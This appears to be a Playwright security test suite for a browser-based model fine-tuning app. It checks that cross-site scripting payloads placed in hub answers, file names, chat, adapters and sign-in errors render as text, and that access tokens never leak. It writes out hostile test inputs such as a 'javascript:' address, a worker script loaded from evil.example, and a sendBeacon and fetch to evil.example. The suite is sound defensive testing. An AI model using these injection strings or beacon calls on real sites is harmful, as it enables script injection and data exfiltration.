/** Nobody in: texts of ill will in every place that shows texts of others, links that only fill a form, and tokens that are kept nowhere. */
import type { BrowserContext, Page } from "@playwright/test";
import { unzipSync, zipSync } from "fflate";
import { startFakeAccount } from "../workers/testing/fake-account.ts";
import { startFakeHub } from "../workers/testing/fake-hub.ts";
import { parquetOf } from "../workers/testing/hub-data.ts";
import { PAYLOADS } from "../workers/testing/payloads.ts";
import { demoModelFiles, demoPicture, drop, jsonLines, text, upload } from "./files.ts";
import {
  alertIn,
  ask,
  button,
  chooseFiles,
  chooseHubModel,
  downloaded,
  downloadZip,
  expect,
  loadDemo,
  panel,
  SLOW,
  setRecipe,
  shortRecipe,
  statusOf,
  test,
  waitForEnd,
  waitForStatus,
} from "./fixtures.ts";
import { kept } from "./kept.ts";
import { serveFiles } from "./serve-files.ts";

const payloads = Object.values(PAYLOADS);
const [IMG, SCRIPT] = payloads as [string, string];
const [TYPED, ALL] = ["hf_typedSecret0123456789", payloads.join(" ")];

/** Notes in every page of the context what the policy refuses, and elements that only an injection makes. */
async function guard(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const found: string[] = [];
    Object.assign(window, { __found: found });
    document.addEventListener("securitypolicyviolation", (event) =>
      found.push(`refused ${event.violatedDirective} ${event.sample}`),
    );
    const look = (node: Node): void => {
      if (!(node instanceof Element)) return;
      for (const element of [node, ...node.querySelectorAll("*")]) {
        const handlers = element.getAttributeNames().filter((name) => name.startsWith("on") || name === "srcdoc");
        const address = `${element.getAttribute("href") ?? ""}${element.getAttribute("src") ?? ""}`;
        const isStrange =
          /^(IFRAME|OBJECT|EMBED|BASE|FRAME|ANIMATE)$/i.test(element.tagName) || element.id === "injected";
        if (isStrange || handlers.length > 0 || /^\s*javascript:|evil\.example/i.test(address))
          found.push(element.outerHTML.slice(0, 200));
      }
    };
    new MutationObserver((all) => {
      for (const { target, addedNodes } of all) for (const node of [target, ...addedNodes]) look(node);
    }).observe(document, {
      subtree: true,
      childList: true,
      attributes: true,
    });
  });
}

/** Nothing ran, and nothing was put in. */
async function expectNobodyIn(page: Page): Promise<void> {
  const seen = await page.evaluate(() => ({
    hit: "__hit" in window,
    found: (window as unknown as { __found: string[] }).__found,
    foreign: [...document.scripts].map(({ src }) => src).filter((src) => !src.startsWith(location.origin)),
  }));
  expect(seen).toEqual({ hit: false, found: [], foreign: [] });
}

test("texts of ill will are texts everywhere, and a token is kept nowhere", async ({ page, context, seen }) => {
  test.setTimeout(300_000);
  await guard(context);
  const addresses: string[] = [];
  const bearers: string[] = [];
  const tokens = [TYPED];
  context.on("request", (request) => {
    addresses.push(request.url());
    const { authorization } = request.headers();
    if (authorization) bearers.push(new URL(request.url()).origin);
  });
  context.on("response", async (response) => {
    if (response.url().endsWith("/oauth/token") && response.ok()) tokens.push((await response.json()).access_token);
  });
  const picture = demoPicture("001.webp");
  const files = new Map([["data/train-00000-of-00001.parquet", await parquetOf(4, { picture: () => picture })]]);
  const cardData = { license: SCRIPT, dataset_info: { splits: [{ name: IMG, num_examples: 4 }] } };
  const hub = await startFakeHub(
    { kind: "datasets", name: "someone/pictures", files, cardData, token: TYPED },
    { name: "someone/model", files: new Map([["config.json", text(ALL)]]), cardData },
  );

  await page.goto("/");
  await test.step("a hub's answers: licence, split, a file that is none, an error", async () => {
    await panel(page, "Model").getByText("Hub settings").click();
    await page.getByLabel("Hub address").fill("javascript:window.__hit=5");
    await page.getByLabel("Data set of the hub").fill(IMG);
    await button(page, "Look it up").click();
    await expect(alertIn(page, "Data")).toContainText("__hit=5");
    await page.getByLabel("Hub address").fill(hub.endpoint);
    await page.getByLabel("Access token").fill(TYPED);
    await page.getByLabel("Data set of the hub").fill("someone/pictures");
    await button(page, "Look it up").click();
    await expect(page.getByRole("region", { name: "From the hub" })).toContainText("__hit=2");
    await chooseHubModel(page, "someone/model");
    await button(page, "Load model").click();
    await expect(alertIn(page, "Model")).toBeVisible({ timeout: SLOW });
    await expectNobodyIn(page);
  });

  await test.step("a recipe that is none, dropped and in a link", async () => {
    const bad = JSON.stringify({ [IMG]: SCRIPT, learning_rate: ALL });
    await drop(page.getByRole("heading", { level: 1 }), [
      { name: `recipe ${SCRIPT}.json`.replaceAll("/", ":"), bytes: text(bad) },
    ]);
    await expect(alertIn(page, "Training")).toContainText("onerror");
    await page.goto("about:blank");
    await page.goto(`/#recipe=${encodeURIComponent(bad)}`);
    await expect(alertIn(page, "Training")).toContainText("onerror");
    await expectNobodyIn(page);
  });

  await test.step("a link with a recipe fills the form, and does nothing else", async () => {
    const before = addresses.length;
    await page.goto("about:blank");
    await page.goto(`/#recipe=${encodeURIComponent('{"max_steps":7,"seed":9}')}`);
    await expect(panel(page, "Training")).toContainText("max_steps 7");
    await page.waitForTimeout(500);
    await expect(statusOf(page, "Model")).not.toContainText("ready");
    await expect(button(page, "Stop and save")).toHaveCount(0);
    const own = new URL(page.url()).origin;
    const asked = addresses.slice(before).filter((address) => address.startsWith("http"));
    expect(asked.filter((address) => !address.startsWith(own))).toEqual([]);
    expect(
      asked.filter((address) => /\/demo\/model|\.jsonl|\/resolve\/|\/api\//.test(address)),
      "no model and no data",
    ).toEqual([]);
  });

  await test.step("captions, questions, columns and names of files", async () => {
    await page.goto("/");
    await loadDemo(page);
    const table = `${["file_name", ...payloads.slice(0, 3)].map((name) => `"${name.replaceAll('"', '""')}"`).join(",")}\n1.webp,a,b,c\n`;
    await drop(page.getByRole("heading", { level: 1 }), [
      { name: "x.csv", bytes: text(table) },
      { name: "1.webp", bytes: picture },
    ]);
    await expect(panel(page, "Data")).toContainText("onerror", { timeout: SLOW });
    await expectNobodyIn(page);
    const rows = payloads.flatMap((payload, n) => [
      { image: "1.webp", question: payload, answer: payload },
      { image: `${n}${payload}.png`, question: "gone?", answer: "yes" },
    ]);
    rows.push({ image: "1.webp", question: "long", answer: "<b>".repeat(350_000) });
    await visitWith(page, [
      upload("rows.jsonl", jsonLines(rows)),
      upload("1.webp", picture),
      upload(`${IMG}.jsonl`, text("{}")),
    ]);
    await expect(statusOf(page, "Data")).toContainText("skipped", { timeout: SLOW });
    await button(page, "Show skipped rows").click();
    await expect(page.getByRole("table", { name: "Skipped rows" })).toContainText("onerror");
    await expect(page.getByRole("table", { name: "Rows", exact: true })).toContainText("onerror");
    await expectNobodyIn(page);
  });

  await test.step("the chat, a run's name and note", async () => {
    await setRecipe(page, { ...shortRecipe(1, 1), "Batch size": 1 });
    await button(page, "Start training").click();
    await waitForEnd(page, 1);
    const chat = panel(page, "Chat");
    await chat.getByRole("textbox", { name: "Message" }).fill(`${IMG} ${SCRIPT}`);
    await chat.getByRole("button", { name: "Send" }).click();
    await expect(chat.locator(".turn.user").last()).toContainText("__hit=2");
    await chat.getByRole("button", { name: "Stop" }).click();
    const runs = panel(page, "Runs");
    await runs.getByText("Name and note").first().click();
    await runs.getByLabel("Name", { exact: true }).first().fill(IMG);
    await runs.getByLabel("Note").first().fill(ALL.slice(0, 400));
    await button(page, "Keep").first().click();
    await expect(runs.getByText("onerror").first()).toBeVisible();
    await expectNobodyIn(page);
  });

  await test.step("a demo page: title, question, licence note", async () => {
    const runs = panel(page, "Runs");
    const choosing = page.waitForEvent("filechooser");
    await button(page, "Add a picture to ask about").click();
    await (await choosing).setFiles([upload("../x.webp", picture)]);
    await runs.getByRole("textbox", { name: "Question 1" }).fill(SCRIPT);
    await runs.getByRole("textbox", { name: "Title" }).fill(IMG);
    await runs.getByRole("textbox", { name: "Licence notes" }).fill(ALL);
    await button(page, "Make the page").click();
    const press = () => button(page, "Download as zip").click({ timeout: SLOW });
    const made = unzipSync(await downloaded(page, press));
    expect(Object.keys(made).filter((name) => /\.\.|^\/|\\/.test(name))).toEqual([]);
    const site = await serveFiles((at) => made[at.slice(1) || "index.html"]);
    const demo = await context.newPage();
    await demo.goto(site.url);
    await expect(demo.getByRole("heading", { level: 1 })).toHaveText(IMG);
    await expect(demo.getByText("__hit=8").first()).toBeVisible();
    await expectNobodyIn(demo);
    await demo.close();
    site.close();
    await expectNobodyIn(page);
  });

  await test.step("signed in by hand and by the hub: the token is in no storage, no address, no log, and went to the hub alone", async () => {
    const account = await startFakeAccount("ann");
    await panel(page, "Model").getByText("Hub settings").click();
    await page.getByLabel("Hub address").fill(account.endpoint);
    await page.getByLabel("OAuth client id").fill("an-app");
    await button(page, "Sign in to the hub").click();
    await expect(panel(page, "Runs")).toContainText("Signed in as ann", { timeout: SLOW });
    await expect.poll(() => tokens.length).toBe(2);
    const all = await kept(page);
    expect(all, "what is searched has what is kept").toContain(account.endpoint);
    for (const token of tokens) {
      expect(all).not.toContain(token);
      expect(addresses.filter((address) => address.includes(token))).toEqual([]);
      expect(seen.console.filter((words) => words.includes(token))).toEqual([]);
      expect(await page.content()).not.toContain(token);
    }
    expect(bearers.length).toBeGreaterThan(0);
    expect([...new Set(bearers)].filter((origin) => ![hub.endpoint, account.endpoint].includes(origin))).toEqual([]);
    await expectNobodyIn(page);
    await account.close();
  });
  await hub.close();
});

test("what a hub answers to a sign-in, in the address, is a text", async ({ page, context }) => {
  await guard(context);
  await page.goto("/");
  // As when this tab has asked: what comes back is read only then.
  await page.evaluate(() => {
    const asked = { endpoint: location.origin, nonce: "n", codeVerifier: "v" };
    sessionStorage.setItem("tabtune-sign-in", JSON.stringify(asked));
  });
  const state = JSON.stringify({ nonce: "n" });
  await page.goto(`/?${new URLSearchParams({ error: SCRIPT, error_description: ALL, state })}`);
  await expect(alertIn(page, "Runs")).toContainText(IMG, { timeout: SLOW });
  await expect(alertIn(page, "Runs")).toContainText("__hit=8");
  expect(new URL(page.url()).search, "it does not stay in the address").toBe("");
  await expectNobodyIn(page);
  // An address that somebody made up: this page has asked for nothing, and so it says nothing of it.
  await page.goto(`/?${new URLSearchParams({ error: IMG, error_description: ALL, state: SCRIPT, code: IMG })}`);
  await expect(button(page, "Load model")).toBeEnabled({ timeout: SLOW });
  await expect(page.locator("body")).not.toContainText("onerror");
  await expectNobodyIn(page);
});

test("what a model says, right answers, a model's and an adapter's names are texts", { tag: "@long" }, async ({
  page,
  context,
}) => {
  test.setTimeout(300_000);
  await guard(context);
  const hub = await startFakeHub({ name: "someone/demo", files: modelThatSays(`${ALL} `) });
  const training = panel(page, "Training");
  const runs = panel(page, "Runs");

  await test.step("right answers, and those of the model beside them", async () => {
    await page.goto("/");
    await panel(page, "Model").getByText("Hub settings").click();
    await page.getByLabel("Hub address").fill(hub.endpoint);
    await chooseHubModel(page, "someone/demo");
    await button(page, "Load model").click();
    await panel(page, "Model")
      .getByRole("button", { name: /^Download / })
      .click();
    await waitForStatus(page, "Model", "ready");
    // A picture each: rows of one picture are held out together, or none is.
    const pictures = payloads.map((_, n) => `${String(n + 1).padStart(3, "0")}.webp`);
    const rows = payloads.map((answer, n) => ({ image: pictures[n], question: "Describe the picture.", answer }));
    await chooseFiles(page, [
      upload("rows.jsonl", jsonLines(rows)),
      ...pictures.map((name) => upload(name, demoPicture(name))),
    ]);
    await training.getByRole("combobox", { name: "Held-out rows" }).selectOption("measured as it trains");
    await setRecipe(page, { ...shortRecipe(1, 1), "Batch size": 1, "Measure every … steps": 1 });
    await setRecipe(page, { "Rows answered": 2, "Share held out": 0.2 });
    await button(page, "Start training").click();
    await waitForEnd(page, 1);
    const said = training.getByRole("list", { name: "Answers of held-out rows" }).locator(".said");
    const texts = await said.allTextContents();
    const right = texts.filter((words) => words.startsWith("right answer"));
    expect(right.filter((words) => payloads.some((payload) => words.includes(payload.trim())))).not.toEqual([]);
    const ofModel = texts.filter((words) => !words.startsWith("right answer"));
    expect(ofModel.filter((words) => words.includes(IMG))).not.toEqual([]);
    await expectNobodyIn(page);
  });

  await test.step("in the chat", async () => {
    expect(await ask(page, "Describe the picture.", "public/demo/data/images/001.webp")).toContain(IMG);
    await expectNobodyIn(page);
  });

  await test.step("an adapter: its file's name, its model's, and settings that are refused", async () => {
    const whole = unzipSync(await downloadZip(page));
    const config = JSON.parse(new TextDecoder().decode(whole["adapter_config.json"]));
    const bring = (changed: object): Promise<void> => {
      const entries = {
        ...whole,
        "adapter_config.json": text(JSON.stringify({ ...config, base_model_name_or_path: ALL, ...changed })),
        "README.md": text(`---\nlicense: ${IMG}\n---\n${ALL}`),
      };
      return drop(panel(page, "Data"), [{ name: `${IMG}.zip`, bytes: zipSync(entries) }]);
    };
    await bring({});
    await expect(runs).toContainText("added as a file", { timeout: SLOW });
    const added = runs.locator(".runs > li").first();
    await expect(added).toContainText(IMG);
    await expect(added).toContainText("__hit=3");
    for (const changed of [{ use_dora: true, [IMG]: SCRIPT }, { modules_to_save: payloads }, { peft_type: ALL }]) {
      await bring(changed);
      await expect(alertIn(page, "Runs")).toBeVisible({ timeout: SLOW });
    }
    await expect(alertIn(page, "Runs")).toContainText("onerror");
    await expectNobodyIn(page);
  });
  await hub.close();
});

/** The demo model, but each space of its answers is `words`: a tokenizer is a stranger's file, and so is what a model learned to say. */
function modelThatSays(words: string): Map<string, Uint8Array> {
  const files = demoModelFiles();
  const tokenizer = JSON.parse(new TextDecoder().decode(files.get("tokenizer.json")));
  const [space] = tokenizer.decoder.decoders;
  expect(space).toEqual({ type: "Replace", pattern: { String: "▁" }, content: " " });
  space.content = words;
  return files.set("tokenizer.json", text(JSON.stringify(tokenizer)));
}

test("the guard of these tests sees what would be let in, and the page’s policy lets none in", async ({
  browser,
  baseURL,
}) => {
  const context = await browser.newContext({ baseURL: baseURL! });
  await guard(context);
  const page = await context.newPage();
  await page.goto("/");
  const refused = await page.evaluate(async () => {
    const tries: Record<string, () => unknown> = {
      markup: () => Object.assign(document.createElement("div"), { innerHTML: "<b>x</b>" }),
      "a worker of elsewhere": () => new Worker("https://evil.example/x.js"),
      "a script in a data address": () =>
        Object.assign(document.createElement("script"), { src: "data:text/javascript,1" }),
    };
    const out: string[] = [];
    for (const [name, run] of Object.entries(tries)) {
      try {
        run();
      } catch {
        out.push(name);
      }
    }
    const link = Object.assign(document.createElement("a"), { href: "javascript:window.__hit=1", id: "injected" });
    document.body.append(link);
    link.click();
    navigator.sendBeacon("https://evil.example/beacon", "x");
    await fetch("https://evil.example/?x").then(
      () => undefined,
      () => out.push("a request to elsewhere"),
    );
    return out;
  });
  expect(refused).toEqual(["markup", "a worker of elsewhere", "a script in a data address", "a request to elsewhere"]);
  const found = (): Promise<string> =>
    page.evaluate(() => (window as unknown as { __found: string[] }).__found.join(" "));
  await expect.poll(found).toContain("injected");
  await expect.poll(found).toContain("refused script-src");
  // The beacon and the request: the network here would answer neither, so it is the policy that is asked.
  await expect.poll(found).toMatch(/refused connect-src.*refused connect-src/);
  expect(await page.evaluate(() => "__hit" in window)).toBe(false);
  await expect(expectNobodyIn(page)).rejects.toThrow();
  await context.close();
});

/** Other files in place of those that are there. */
async function visitWith(page: Page, uploads: Parameters<typeof chooseFiles>[1]): Promise<void> {
  await page.goto("about:blank");
  await page.goto("/");
  await loadDemo(page);
  await chooseFiles(page, uploads);
}
